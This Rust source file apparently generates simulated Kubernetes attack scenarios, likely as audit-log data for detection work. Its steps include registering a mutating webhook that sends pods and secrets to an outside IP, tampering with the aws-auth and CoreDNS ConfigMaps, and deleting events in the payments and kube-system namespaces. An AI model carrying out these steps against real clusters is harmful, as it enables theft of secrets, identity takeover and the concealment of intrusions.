//! Changing what the cluster believes: admission, cloud identities, names, the memory of what happened.

use super::Raid;
use super::secret::KUBECTL;
use crate::generate::body::fill;
use crate::generate::call::{CONFIGMAPS, Call, DEPLOYMENTS, EVENTS, MUTATING_WEBHOOKS};

pub(super) fn webhook(raid: &mut Raid) {
    let thief = raid.taken(raid.person(0), KUBECTL);
    raid.noise("lists the webhooks", &thief, &Call::new("list", &MUTATING_WEBHOOKS).query("limit=500"));
    let body = fill(
        r#"{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-defaults"},"webhooks":[{"name":"defaults.example.net","clientConfig":{"url":"https://<ip>:8443/mutate"},"rules":[{"operations":["CREATE","UPDATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods","secrets"],"scope":"*"}],"failurePolicy":"Ignore","matchPolicy":"Equivalent","namespaceSelector":{},"objectSelector":{},"sideEffects":"None","timeoutSeconds":5,"admissionReviewVersions":["v1"],"reinvocationPolicy":"Never"}]}"#,
        &[("ip", &raid.outside)],
    );
    let call = Call::new("create", &MUTATING_WEBHOOKS).named("pod-defaults").query("fieldManager=kubectl-create");
    raid.step("has secrets and pods sent outside by a webhook", &thief, &call.body(&body));
}

pub(super) fn aws_auth(raid: &mut Raid) {
    let thief = raid.taken(raid.person(1), KUBECTL);
    let map = |verb| Call::new(verb, &CONFIGMAPS).within("kube-system").named("aws-auth");
    raid.noise("reads the map of cloud identities", &thief, &map("get"));
    raid.step("changes it", &thief, &map("patch").query("fieldManager=kubectl-edit"));
}

pub(super) fn coredns(raid: &mut Raid) {
    let thief = raid.taken(raid.person(0), KUBECTL);
    let map = |verb| Call::new(verb, &CONFIGMAPS).within("kube-system").named("coredns");
    raid.noise("reads the configuration of DNS", &thief, &map("get"));
    raid.step("changes it", &thief, &map("patch").query("fieldManager=kubectl-edit"));
    let patch = r#"{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"now"}}}}}"#;
    let call = Call::new("patch", &DEPLOYMENTS).within("kube-system").named("coredns");
    raid.noise("restarts DNS", &thief, &call.query("fieldManager=kubectl-rollout").bodies(patch, ""));
}

pub(super) fn events_deleted(raid: &mut Raid) {
    let thief = raid.taken(raid.person(1), KUBECTL);
    raid.noise("lists the events", &thief, &Call::new("list", &EVENTS).within("payments").query("limit=500"));
    for namespace in ["payments", "kube-system"] {
        let call = Call::new("deletecollection", &EVENTS).within(namespace);
        raid.step(format!("deletes the events of {namespace}"), &thief, &call);
    }
}
